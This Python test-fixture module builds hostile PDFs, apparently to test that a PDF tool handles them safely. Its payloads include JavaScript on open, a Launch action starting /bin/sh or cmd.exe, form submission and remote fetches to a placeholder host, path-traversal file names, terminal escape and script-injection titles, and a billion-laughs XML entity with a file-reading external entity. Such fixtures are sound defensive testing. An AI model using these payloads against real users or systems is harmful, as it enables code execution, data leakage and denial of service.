"""What is aimed at the reader's surroundings: code, addresses, paths, names, metadata."""

from __future__ import annotations

from tests.hostile.assembly import one_page, stream_object
from tests.hostile.registry import Register

BUILDERS = Register()


@BUILDERS.add
def javascript_on_open() -> bytes:
    """Code: JavaScript that runs when the document opens."""
    script = b"<</S/JavaScript/JS(app.launchURL\\('http://invalid.example/'\\))>>"
    names = b"/Names<</JavaScript<</Names[(a)%b]>>>>" % script
    return one_page(catalog=b"/OpenAction%b%b" % (script, names))


@BUILDERS.add
def javascript_on_page() -> bytes:
    """Code: JavaScript when a page is opened, closed and printed."""
    script = b"<</S/JavaScript/JS(this.exportDataObject\\({nLaunch:2}\\))>>"
    actions = b"/AA<</O%b/C%b/WP%b>>" % (script, script, script)
    return one_page(page=actions, catalog=actions)


@BUILDERS.add
def launch_action() -> bytes:
    """Code: a program that is started when the document opens."""
    return one_page(catalog=b"/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/C calc)>>>>")


@BUILDERS.add
def remote_actions() -> bytes:
    """Network: actions that fetch an address, a remote document and a form."""
    actions = (
        b"<</S/URI/URI(http://invalid.example/a)>>",
        b"<</S/GoToR/F(//invalid.example/share/a.pdf)/D[0/Fit]>>",
        b"<</S/SubmitForm/F<</FS/URL/F(http://invalid.example/b)>>>>",
    )
    links = b"".join(b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A%b>>" % a for a in actions)
    return one_page(page=b"/Annots[%b]" % links, catalog=b"/OpenAction" + actions[0])


def _embedded(name: bytes) -> bytes:
    spec = b"<</Type/Filespec/F<%b>/EF<</F 7 0 R>>>>" % name.hex().encode()
    names = b"/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>"
    return one_page(catalog=names, more=[spec, stream_object(b"evil", b"/Type/EmbeddedFile")])


@BUILDERS.add
def embedded_file_climbs() -> bytes:
    """Paths: an embedded file whose name climbs out of any folder."""
    return _embedded(b"../../../../tmp/evil")


@BUILDERS.add
def embedded_file_control_name() -> bytes:
    """Paths: an embedded file whose name has NUL, line ends and an escape sequence."""
    return _embedded(b"a\0b\r\nc\x1b[2Jd\x07.exe")


def _titled(title: bytes) -> bytes:
    """A document with `title` in its metadata, as bytes or UTF-16 with its mark."""
    info = b"<</Title<%b>/Author<%b>>>" % ((title.hex().encode(),) * 2)
    return one_page(more=[info], trailer=b"/Info 6 0 R")


@BUILDERS.add
def title_control_characters() -> bytes:
    """Payload: a title of all control characters."""
    return _titled(bytes(range(32)) + b"\x7f" + bytes(range(0x80, 0xA0)))


@BUILDERS.add
def title_escape_sequences() -> bytes:
    """Payload: a title that clears the terminal, sets its title and moves the cursor."""
    return _titled(b"\x1b[2J\x1b]0;gotcha\x07\x1b[31mrood\x1b[0m\x9b1A")


@BUILDERS.add
def title_script() -> bytes:
    """Payload: a title with a script element and mark-up."""
    return _titled(b"</title><script>alert(1)</script>[bold red]x[/]{{7*7}}")


@BUILDERS.add
def title_lone_surrogates() -> bytes:
    """Payload: a UTF-16 title of halves of surrogate pairs."""
    return _titled(b"\xfe\xff\xd8\x00\x00a\xdc\x00\x00b\xdf\xff")


@BUILDERS.add
def metadata_entities() -> bytes:
    """Memory: XML metadata whose entities unfold to billions, and one that reads a file."""
    entities = b'<!ENTITY a0 "ha"><!ENTITY x SYSTEM "file:///etc/hostname">' + b"".join(
        b'<!ENTITY a%d "%b">' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 12)
    )
    xml = b"<?xml version='1.0'?><!DOCTYPE r [%b]><r>&a11;&x;</r>" % entities
    stream = stream_object(xml, b"/Type/Metadata/Subtype/XML")
    return one_page(catalog=b"/Metadata 6 0 R", more=[stream])


@BUILDERS.add
def names_with_nul() -> bytes:
    """Names: NUL, nothing at all and broken escapes in names."""
    page = b"/#00#00/#00/ /A/a#/#zz/b#0/#2f#20/x"
    return one_page(page=page, catalog=page, resources=b"/XObject<</#00 6 0 R/ 6 0 R>>")
